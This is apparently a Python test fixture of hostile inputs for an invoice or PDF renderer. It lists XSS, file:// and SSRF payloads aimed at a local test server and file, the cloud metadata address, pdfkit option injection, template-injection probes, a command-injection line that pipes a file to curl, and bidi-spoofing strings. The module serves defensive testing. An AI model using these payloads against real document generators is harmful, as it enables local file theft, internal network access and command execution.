"""What somebody might type for a name or an address to make an invoice do more than be read.

PORT is a server of ours on this machine, FILE the path of a file of ours: whoever reaches either, counts.
"""

SCRIPTS = [
    "<script>document.write('RAN')</script>",
    "<SCRIPT SRC=http://127.0.0.1:PORT/x.js></SCRIPT>",
    "<img src=x: onerror=document.write('RAN')>",
    "<svg onload=document.write('RAN')><text>RAN</text></svg>",
    "<body onload=document.write('RAN')>",
    "<a href=javascript:document.write('RAN')>x</a>",
    "javascript:document.write('RAN')",
    "<iframe srcdoc='<script>parent.document.write(1)</script>'></iframe>",
    "<math><mi xlink:href='data:x,<script>RAN</script>'></math>",
    "<style>*{background:url(javascript:RAN)}</style>",
]
FRAMES = [
    "<iframe src=file://FILE></iframe>",
    "<iframe src='FILE' width=900></iframe>",
    "<object data='file://FILE' type='text/html'></object>",
    "<embed src=file://FILE>",
    "<frameset><frame src=file://FILE></frameset>",
    "<link rel=import href=file://FILE>",
    "<img src=file://FILE>",
    "<img src=http://127.0.0.1:PORT/x.png>",
    "<img srcset='http://127.0.0.1:PORT/x.png 2x'>",
    "<iframe src=//127.0.0.1:PORT/></iframe>",
    "<video src=http://127.0.0.1:PORT/v></video><audio src=http://127.0.0.1:PORT/a></audio>",
    "<form action=http://127.0.0.1:PORT/ id=f></form><input form=f autofocus onfocus=submit()>",
    "<base href=http://127.0.0.1:PORT/><img src=x.png>",
    "<link rel=stylesheet href=http://127.0.0.1:PORT/x.css>",
    "<link rel=prefetch href=http://127.0.0.1:PORT/p><link rel=dns-prefetch href=//127.0.0.1:PORT>",
    "<style>@import url(http://127.0.0.1:PORT/x.css);</style>",
    "<style>@font-face{font-family:x;src:url(http://127.0.0.1:PORT/f)}*{font-family:x}</style>",
    "<p style=\"background:url('http://127.0.0.1:PORT/b')\">x</p>",
    "<svg><image xlink:href='http://127.0.0.1:PORT/i'/><use href='file://FILE#x'/></svg>",
    "<xml><?xml-stylesheet href='http://127.0.0.1:PORT/s'?></xml>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://FILE'>]>&e;",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/'>",
    "<meta http-equiv=refresh content='0;url=file://FILE'>",
]
OPTIONS = [
    "<meta name='pdfkit-allow' content='/'><iframe src='file://FILE'></iframe>",
    "<meta name=pdfkit-enable-local-file-access content=''><iframe src='FILE'></iframe>",
    "<meta name=pdfkit-cover content=FILE>",
    "<meta name=pdfkit-user-style-sheet content=FILE>",
    "<meta name=pdfkit-header-html content=http://127.0.0.1:PORT/>",
    "<meta name=pdfkit-post-file content=FILE>",
    "<meta name=pdfkit-run-script content=document.write('RAN')>",
    "<meta name=pdfkit-enable-javascript content=''>",
    "<meta name=pdfkit-proxy content=''><img src=http://127.0.0.1:PORT/x>",
    "<meta name=pdfkit-cookie-jar content=FILE>",
    "--allow / --enable-local-file-access --user-style-sheet FILE",
    "-- ; cat FILE | curl -d @- http://127.0.0.1:PORT/ ; `id` $(id)",
    '" --post-file x FILE "',
    "@FILE",
]
BREAKS = [
    "</td></tr></table><h1>another page</h1>",
    "</style><style>body{display:none}</style>",
    "</title><h1>titled</h1>",
    "--></div></body></html><iframe src=file://FILE>",
    "]]><iframe src=file://FILE>",
    "<div class=page style='page-break-before:always'>x</div>",
    "<wbr><span></span>&shy;&zwnj;&#8238;abc&#0;",
    "&lt;script&gt;RAN&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "\"' onmouseover='RAN' x=\"",
    "{{ 7 * 7 }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ self.__init__.__globals__ }} {{ ''.__class__.__mro__ }}",
    "%(amount)s %s %n {0} {amount} \\x00 \\u0000 \\",
]
PLACES = [
    "file://FILE",
    "FILE",
    "../../../../../../..FILE",
    "C:\\windows\\system32 \\\\127.0.0.1\\share",
    "http://127.0.0.1:PORT/ https://[::1]:PORT/ ftp://127.0.0.1:PORT/",
    "data:text/html,<iframe src=file://FILE>",
    "qrc:/ about:blank view-source:file://FILE",
    "http://169.254.169.254/latest/meta-data/",
]
VISIBLE = [*SCRIPTS, *FRAMES, *OPTIONS, *BREAKS, *PLACES]
"""Each stands on the document as it was typed."""

UNSEEN = [
    "".join(chr(code) for code in range(1, 32)) + "\x7f\x85end",
    "\u061c\u2028\u2029\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeffend",
    "evil\u202egnp.exe end",
    "a\r\nb\x0bc\x0cd\x1b[31m\x08\x08end",
]
"""Characters that have no place in text are left out; the rest of it is there."""


def aimed(text: str, port: int, file: str) -> str:
    """The text with the server and the file that it is after."""
    return text.replace("PORT", str(port)).replace("FILE", file)
